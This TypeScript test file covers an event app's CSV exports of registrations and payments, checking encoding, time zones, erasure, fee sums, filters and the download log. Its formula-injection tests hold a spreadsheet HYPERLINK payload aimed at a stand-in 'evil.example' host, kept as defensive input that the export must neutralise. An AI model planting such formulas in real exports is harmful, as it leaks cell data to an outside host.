/** The files that organizers download, over HTTP: what is in them, for whom, and that nobody takes a part of one for the whole. */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { eraseFromOrder } from '../../../src/database/orders.ts';
import { reference } from '../../../src/reference.ts';
import { startStack, type Stack } from '../../stack.ts';
import { aSignedIn, BROWSER, type SignedIn } from './desk.ts';
import { anOrder, aRefund } from './orders.ts';

let stack: Stack;
let accountant: SignedIn & { id: string };
beforeAll(async () => {
  stack = await startStack();
  accountant = await aSignedIn(stack, 'accountant');
});
afterEach(async () => {
  for (const table of ['orders', 'captures', 'refunds']) await stack.database(table).delete();
});
afterAll(() => stack.stop());

const order = (columns: Record<string, unknown> = {}) => anOrder(stack.database, columns);
const ANY = { accept: '*/*' };
const PATH = '/organizer/export';
const file = (address: string) => accountant.get(`${PATH}/${address}`, ANY);

type Line = Record<string, string>;
/** Reads a file as an importer does, and checks how it ends. */
function read(text: string): { lines: Line[]; ending: string } {
  const all = parse<Line>(text, { bom: true, columns: true, record_delimiter: '\r\n' });
  const ending = Object.values(all.pop() ?? {});
  expect(ending.slice(1).join('')).toBe('');
  return { lines: all, ending: ending[0] ?? '' };
}
const linesOf = async (address: string) => read((await file(address)).body).lines;

describe('registrations.csv', () => {
  it('has what is known of a registration, in the time zone of the event', async () => {
    const at = new Date('2027-03-28T00:30:00.400Z');
    const id = await order({
      ...{
        first_name: 'Zoë',
        last_name: 'Example "Z", Jr.',
        organization: 'Society;\ttrust',
        address_line2: 'Line\r\n2',
      },
      ...{ postal_code: '01067', created_at: at, paid_at: new Date('2027-03-28T01:30:00Z') },
      ...{ newsletter_consent_at: at, newsletter_wording: '2026-11', language: 'de' },
    });
    await aRefund(stack.database, id);
    await aRefund(stack.database, id, { state: 'refused', word: 'REFUND_NOT_ALLOWED' });
    const answer = await file('registrations.csv');
    expect(answer.statusCode).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="registrations.csv"',
      'cache-control': 'no-store',
    });
    expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(answer.body.endsWith('\r\n')).toBe(true);
    const { lines, ending } = read(answer.body);
    expect(lines).toEqual([
      {
        ...{ reference: reference(id), id, status: 'confirmed', event_id: 'conference', event: 'Conference' },
        ...{ ticket_type_id: 'regular', ticket_type: 'Regular', first_name: 'Zoë' },
        ...{ last_name: 'Example "Z", Jr.', email: 'ada@example.org', organization: 'Society;\ttrust' },
        ...{
          address_line1: 'Street 2',
          address_line2: 'Line\r\n2',
          postal_code: '01067',
          city: 'Hamburg',
          region: '',
        },
        // The clocks go forward between the two.
        ...{ country_code: 'DE', registered_at: '2027-03-28 01:30:00', paid_at: '2027-03-28 03:30:00' },
        ...{
          time_zone: 'Europe/Berlin',
          registered_at_utc: '2027-03-28T00:30:00Z',
          paid_at_utc: '2027-03-28T01:30:00Z',
        },
        ...{
          source: 'form',
          payment: 'paypal',
          amount: '120.00',
          refunded: '40.00',
          currency: 'EUR',
          newsletter: 'yes',
          language: 'de',
        },
      },
    ]);
    expect(ending).toBe('# end of file: 1 lines');
  });

  it('has empty cells where a person was erased, and the amounts stay', async () => {
    const id = await order();
    await eraseFromOrder(stack.database, id);
    const [line] = await linesOf('registrations.csv');
    for (const column of [
      'first_name',
      'last_name',
      'email',
      'organization',
      'address_line1',
      'city',
      'newsletter',
    ])
      expect([column, line?.[column]]).toEqual([column, '']);
    expect(line).toMatchObject({ reference: reference(id), amount: '120.00', country_code: 'DE' });
  });

  it('says how it was paid, and that nothing was to be paid', async () => {
    await order({ ticket_type_id: 'free', amount_minor: 0, paypal_order_id: null, paypal_capture_id: null });
    expect(await linesOf('registrations.csv')).toMatchObject([{ payment: 'none', amount: '0.00' }]);
  });

  it('is whole without a line', async () => {
    expect(read((await file('registrations.csv')).body)).toEqual({
      lines: [],
      ending: '# end of file: 0 lines',
    });
  });

  it('has what the filters of the list find, the oldest first', async () => {
    const old = await order({ last_name: 'Müller', created_at: new Date('2027-01-01T00:00:00Z') });
    const [young, other] = [await order(), await order({ status: 'cancelled', ticket_type_id: 'limited' })];
    await aRefund(stack.database, young, { state: 'refused', word: 'REFUND_NOT_ALLOWED' });
    const ids = async (query: string) => (await linesOf(`registrations.csv?${query}`)).map(({ id }) => id);
    const found = await ids('');
    expect(found).toHaveLength(3);
    expect(found.toSorted()).toEqual([old, young, other].toSorted());
    expect(await ids('q=muller')).toEqual([old]);
    expect(await ids('status=cancelled')).toEqual([other]);
    expect(await ids('ticket=limited')).toEqual([other]);
    expect(await ids('attention=refund-refused')).toEqual([young]);
    expect(await ids('event=conference&ticket=&status=')).toHaveLength(3);
    expect(await ids('q=muller&status=cancelled')).toEqual([]);
  });

  it.each([
    ['registrations.csv?event=nowhere', '/event'],
    ['registrations.csv?status=paid', '/status'],
    ['registrations.csv?status=confirmed&status=cancelled', '/status'],
    ['registrations.csv?ticket=x', '/ticket'],
    ['registrations.csv?attention=x', '/attention'],
    [`registrations.csv?q=${'x'.repeat(101)}`, '/q'],
    ['money.csv?from=yesterday', '/from'],
    ['money.csv?to=0000-01-01', '/to'],
    ['money.csv?from=2027-02-30', '/from'],
    ['money.csv?from=2027-02-02&to=2027-02-01', '/to'],
    ['money.csv?event=nowhere', '/event'],
  ])('sends no file for %s, which would be another one than was asked for', async (address, pointer) => {
    const answer = await file(address);
    expect(answer.statusCode).toBe(422);
    expect(answer.json<{ errors: { pointer: string }[] }>().errors).toMatchObject([{ pointer }]);
    const page = await accountant.get(`${PATH}/${address}`);
    expect([page.statusCode, page.headers['content-type']]).toEqual([422, 'text/html; charset=utf-8']);
    expect(page.body).toContain('role="alert"');
    if (/q|status|from|to/.test(pointer)) expect(page.body).toContain('aria-invalid="true"');
  });
});

describe('formulas', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1;"click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '  =1+1',
    `"=1+1`,
  ];
  it.each(FORMULAS)('%s is text in every column that somebody else has written', async (formula) => {
    const written = {
      first_name: formula,
      last_name: formula,
      organization: formula,
      address_line1: formula,
    };
    await order({ ...written, city: formula });
    await stack.database('events').update({ name: formula });
    await stack.database('ticket_types').where({ id: 'regular' }).update({ name: formula });
    const [line] = await linesOf('registrations.csv');
    await stack.database('events').update({ name: 'Conference' });
    await stack.database('ticket_types').where({ id: 'regular' }).update({ name: 'Regular' });
    for (const column of [...Object.keys(written), 'city', 'event', 'ticket_type'])
      expect(line?.[column]).toMatch(/^'/);
    expect(line?.first_name?.replaceAll("'", '')).toBe(formula.replaceAll("'", ''));
  });

  it('do not begin in the middle of a cell either, for a spreadsheet that takes another separator', async () => {
    await order({ organization: 'Society;=1+1,@x|+2', city: 'Fritz-Reuter-Stadt; am Main' });
    expect(await linesOf('registrations.csv')).toMatchObject([
      { organization: "Society;'=1+1,'@x|'+2", city: 'Fritz-Reuter-Stadt; am Main' },
    ]);
  });
});

/** A payment of 120 euros with its fee, as it is recorded with the order. */
async function aPayment(columns: Record<string, unknown> = {}, fee: number | null = 398) {
  const id = await order(columns);
  await stack.database('captures').insert({
    ...{
      paypal_capture_id: `capture-${id}`,
      registration_id: id,
      paypal_order_id: `order-${id}`,
      fee_minor: fee,
    },
    ...{
      amount_minor: 12_000,
      currency: 'EUR',
      captured_at: new Date('2027-01-31T23:30:00Z'),
      event_id: 'conference',
    },
    ...('currency' in columns && { currency: columns.currency, amount_minor: columns.amount_minor }),
  });
  return id;
}
const aDoneRefund = (id: string, columns: Record<string, unknown> = {}) =>
  aRefund(stack.database, id, {
    ...{
      paypal_refund_id: `refund-${randomUUID()}`,
      made_at: new Date('2027-02-02T10:00:00Z'),
      fee_minor: 0,
      ...columns,
    },
  });
const shown = (lines: Line[]) =>
  lines.map(({ kind, amount, currency, note }) => [kind, amount, currency, note].join(' ').trim());

describe('money.csv', () => {
  it('has each payment, fee and refund, and their sums', async () => {
    const id = await aPayment();
    await aDoneRefund(id, { fee_minor: 100 });
    await aRefund(stack.database, id, { state: 'asked' });
    await aRefund(stack.database, id, { state: 'refused', word: 'REFUND_NOT_ALLOWED' });
    await aPayment({ amount_minor: 500, currency: 'JPY' }, 55);
    const { lines, ending } = read((await file('money.csv')).body);
    expect(shown(lines.filter(({ currency }) => currency === 'EUR'))).toEqual([
      ...['capture 120.00 EUR', 'fee -3.98 EUR', 'refund -40.00 EUR', 'refund-fee 1.00 EUR'],
      ...['sum-capture 120.00 EUR', 'sum-fee -3.98 EUR', 'sum-refund -40.00 EUR', 'sum-refund-fee 1.00 EUR'],
      'sum 77.02 EUR',
    ]);
    expect(shown(lines.filter(({ currency }) => currency === 'JPY'))).toEqual([
      ...['capture 500 JPY', 'fee -55 JPY', 'sum-capture 500 JPY', 'sum-fee -55 JPY', 'sum 445 JPY'],
    ]);
    expect(lines.find(({ paypal_capture_id }) => paypal_capture_id === `capture-${id}`)).toEqual({
      ...{
        kind: 'capture',
        time: '2027-02-01 00:30:00',
        time_zone: 'Europe/Berlin',
        time_utc: '2027-01-31T23:30:00Z',
      },
      ...{ amount: '120.00', currency: 'EUR', note: '', reference: reference(id), event_id: 'conference' },
      ...{ event: 'Conference', paypal_id: `capture-${id}`, paypal_capture_id: `capture-${id}` },
      ...{ paypal_order_id: `order-${id}`, registration_id: id },
    });
    expect(ending).toBe('# end of file: 6 lines');
  });

  it('says of a fee that PayPal has not told that it is not known, and never zero', async () => {
    const id = await aPayment({}, null);
    await aDoneRefund(id, { fee_minor: null });
    expect(shown(await linesOf('money.csv'))).toEqual([
      ...[
        'capture 120.00 EUR',
        'fee  EUR not known yet',
        'refund -40.00 EUR',
        'refund-fee  EUR not known yet',
      ],
      ...['sum-capture 120.00 EUR', 'sum-fee 0.00 EUR 1 not known yet', 'sum-refund -40.00 EUR'],
      ...['sum-refund-fee 0.00 EUR 1 not known yet', 'sum 80.00 EUR 2 not known yet'],
    ]);
  });

  it('has the days of the event’s time zone, of one event, and payments whose registration has no order', async () => {
    await aPayment();
    const kinds = async (query: string) => (await linesOf(`money.csv?${query}`)).map(({ kind }) => kind);
    const all = ['capture', 'fee', 'sum-capture', 'sum-fee', 'sum'];
    expect(await kinds('from=2027-02-01&to=2027-02-01')).toEqual(all);
    expect(await kinds('to=2027-01-31')).toEqual([]);
    expect(await kinds('from=2027-02-02')).toEqual([]);
    expect(await kinds('event=conference')).toEqual(all);
    await stack.database('orders').delete();
    expect(await kinds('event=conference')).toEqual(all);
  });
});

describe('the history of downloads', () => {
  const events = () =>
    stack
      .database('organizer_events')
      .orderBy('position')
      .select<{ kind: string; facts: object; organizer_id: string; event_id: string | null }[]>('*');

  it('has who took which file, by which filters, and how much of it, but not what was looked for', async () => {
    await order({ last_name: 'Lovelace' });
    const before = (await events()).length;
    await file('registrations.csv?q=lovelace&event=conference');
    await vi.waitUntil(async () => (await events()).length === before + 2);
    const noted = (await events()).slice(before);
    expect(JSON.stringify(noted).toLowerCase()).not.toContain('lovelace');
    const facts = { file: 'registrations', filters: ['q', 'event'] };
    expect(noted).toMatchObject([
      { kind: 'export-begun', facts, organizer_id: accountant.id, event_id: 'conference' },
      { kind: 'exported', facts: { ...facts, lines: 1, complete: true }, organizer_id: accountant.id },
    ]);
    const { body } = await accountant.get(PATH);
    expect(body).toContain('complete, 1 line');
    expect(body).toContain('filtered by search, event');
  });

  it('tells of one whose end was never noted', async () => {
    const facts = JSON.stringify({ file: 'money', filters: [] });
    const begun = { kind: 'export-begun', organizer_id: accountant.id, facts };
    await stack.database('organizer_events').insert({ ...begun, action: randomUUID() });
    expect((await accountant.get(PATH)).body).toContain('in progress');
    const at = new Date(Date.now() - 3_600_000);
    await stack.database('organizer_events').insert({ ...begun, action: randomUUID(), at });
    expect((await accountant.get(PATH)).body).toContain('broken off, or its end could not be recorded');
  });

  it('has nothing of a request that got no file', async () => {
    const before = (await events()).length;
    expect((await file('money.csv?from=x')).statusCode).toBe(422);
    const head = await stack.app.inject({
      method: 'HEAD',
      url: `${PATH}/money.csv`,
      cookies: accountant.cookies,
    });
    expect(head.statusCode).toBe(404);
    const door = await aSignedIn(stack, 'door');
    for (const name of ['money.csv', 'registrations.csv'])
      expect((await door.get(`${PATH}/${name}`, { accept: BROWSER })).statusCode).toBe(403);
    expect(await events()).toHaveLength(before);
  });
});
